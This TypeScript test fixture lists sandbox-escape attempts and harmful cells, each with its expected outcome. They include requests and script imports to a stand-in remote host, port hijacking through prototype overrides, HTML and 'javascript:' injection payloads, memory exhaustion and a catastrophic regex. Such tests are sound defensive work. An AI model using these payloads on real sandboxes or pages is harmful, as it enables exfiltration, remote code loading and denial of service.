/**
 * Ways out of the sandbox that a cell might try, and harm it might do. `AWAY` stands for a server elsewhere, `ORIGIN` for the
 * site's own.
 */

/** The code of an attempt. It runs on for a while, so that what it has begun has time to be done. */
export const codeOf = (expression: string): string =>
	[
		"let out: any = ''",
		`try { out = (() => ${expression})() } catch { out = 'refused' }`,
		'for (const end = Date.now() + 500; Date.now() < end; );',
		"print(String(out ?? ''))",
	].join('\n')

export interface Attempt {
	readonly name: string
	/** An expression; `AWAY` stands for the other server. */
	readonly does: string
	/** What the cell is left with. */
	readonly gets: RegExp
}

export const attempts: readonly Attempt[] = [
	{ name: 'fetch', does: '(fetch("http://AWAY/fetch").catch(() => {}), "asked")', gets: /^asked$/ },
	{
		name: 'XMLHttpRequest, waiting for it',
		does: '{ const r = new XMLHttpRequest(); r.open("GET", "http://AWAY/xhr", false); r.send(); return r.responseText }',
		gets: /^refused$/,
	},
	{
		name: 'XMLHttpRequest to the site itself',
		does: '{ const r = new XMLHttpRequest(); r.open("GET", "ORIGIN/theme.js", false); r.send(); return r.responseText }',
		gets: /^refused$/,
	},
	{ name: 'WebSocket', does: '(new WebSocket("ws://AWAY/socket"), "asked")', gets: /^(asked|refused)$/ },
	{ name: 'EventSource', does: '(new EventSource("http://AWAY/events"), "asked")', gets: /^(asked|refused)$/ },
	{ name: 'WebTransport', does: '(new WebTransport("https://AWAY/transport"), "asked")', gets: /^(asked|refused)$/ },
	{ name: 'sendBeacon', does: '(navigator as any).sendBeacon("http://AWAY/beacon")', gets: /^refused$/ },
	{
		name: 'import() of an address',
		does: '(import("http://AWAY/import" as any).catch(() => {}), "asked")',
		gets: /^asked$/,
	},
	{
		name: 'import() of data',
		does: '(import("data:text/javascript,globalThis.leaked=1" as any).catch(() => {}), (globalThis as any).leaked)',
		gets: /^$/,
	},
	{ name: 'importScripts', does: '(self as any).importScripts("http://AWAY/scripts")', gets: /^refused$/ },
	{
		name: 'a font',
		does: '(new FontFace("a", "url(http://AWAY/font)").load().catch(() => {}), "asked")',
		gets: /^(asked|refused)$/,
	},
	{
		name: 'a worker of its own',
		does: '(new (self as any).Worker("data:text/javascript,"), "made")',
		gets: /^refused$/,
	},
	{
		name: 'a worker, by the constructor of something else',
		does: '[self, Object.getPrototypeOf(self), globalThis].some((one: any) => one.Worker || one.SharedWorker)',
		gets: /^false$/,
	},
	{
		name: 'windows, the page, its document',
		does: '["window", "parent", "top", "opener", "frames", "frameElement", "document", "open", "alert"].filter((one) => one in globalThis).join()',
		gets: /^$/,
	},
	{
		name: 'what a browser keeps',
		does: '["localStorage", "sessionStorage", "cookieStore", "indexedDB", "caches"].filter((one) => (globalThis as any)[one]).join()',
		gets: /^$/,
	},
	{ name: 'the origin of the site', does: '(origin + " " + location.protocol)', gets: /^null blob:$/ },
	{
		name: 'going elsewhere',
		does: '{ (location as any).href = "http://AWAY/go"; return location.protocol }',
		gets: /^(blob:|refused)$/,
	},
	{ name: 'a channel to others', does: 'new BroadcastChannel("bend")', gets: /^refused$/ },
	{ name: 'answering in its own words', does: '(self as any).postMessage({ cell: 0 })', gets: /^refused$/ },
	{
		name: 'taking hold of the port it is answered through',
		does: '{ MessagePort.prototype.postMessage = function () { (globalThis as any).port = this }; Function.prototype.call = () => 7; return (globalThis as any).port }',
		gets: /^$/,
	},
	{ name: 'ending itself', does: '(self as any).close()', gets: /^refused$/ },
	{
		name: 'a function made of text',
		does: 'new Function("return typeof parent + typeof document")()',
		gets: /^undefinedundefined$/,
	},
]

export interface Harm {
	readonly name: string
	/** A whole cell. */
	readonly code: string
	/** What it is told in Chinese that it did wrong, or else what it shows. */
	readonly fault?: RegExp
	readonly shows?: RegExp
}

export const harm: readonly Harm[] = [
	{
		name: 'markup in text',
		code: 'print("</script></pre><img src=x onerror=\\"document.title=1\\">")',
		shows: /<\/script><\/pre><img src=x/,
	},
	{
		name: 'microtasks without end',
		code: 'const spin = (): unknown => Promise.resolve().then(spin)\nspin()\n"done"',
		shows: /^done$/,
	},
	{ name: 'timers after the end', code: 'setInterval(() => print("late"), 1)\n"done"', shows: /^done$/ },
	{ name: 'output without end', code: 'for (let i = 0; i < 1e6; i++) print("x".repeat(1000))', shows: /^x+/ },
	{
		name: 'a list that grows in being read',
		code: 'const a: any = new Proxy([], { get: (t, k) => k === "length" ? 1e9 : 1 })\na',
		shows: /^/,
	},
	{
		name: 'a forged length of the report',
		code: 'const huge = "x".repeat(5e6)\n;(Object.prototype as any).toJSON = () => huge\n1',
		fault: /./,
	},
	{ name: 'a report that is none', code: ';(Object.prototype as any).toJSON = () => 7\n1', fault: /./ },
	{
		name: 'a picture that is a script',
		code: 'const p: any = Plot.dot([1]).plot()\np.toTree = () => ["script", {}, ["document.title = 1"]]\np',
		fault: /./,
	},
	{
		name: 'a picture with scripts, links and images in it',
		code: 'const p: any = Plot.plot({ marks: [Plot.image([{}], { x: 1, y: 1, src: () => "http://AWAY/image" }), Plot.dot([1], { href: () => "javascript:document.title=1" })] })\np.setAttribute("onload", "document.title=1")\np.setAttribute("style", "position:fixed;inset:0")\np',
		shows: /^/,
	},
	{
		name: 'buffers without end',
		code: 'const all: unknown[] = []\nfor (;;) all.push(new Uint8Array(1e8))',
		fault: /内存/,
	},
	{ name: 'a string without end', code: 'let s = "abc"\nfor (;;) s += s', fault: /内存/ },
	{ name: 'a recursion without end', code: 'const f = (): number => f() + 1\nf()', fault: /递归/ },
	{ name: 'a pattern that never ends', code: '/(a+)+$/.test("a".repeat(60) + "b")', fault: /2 秒/ },
]
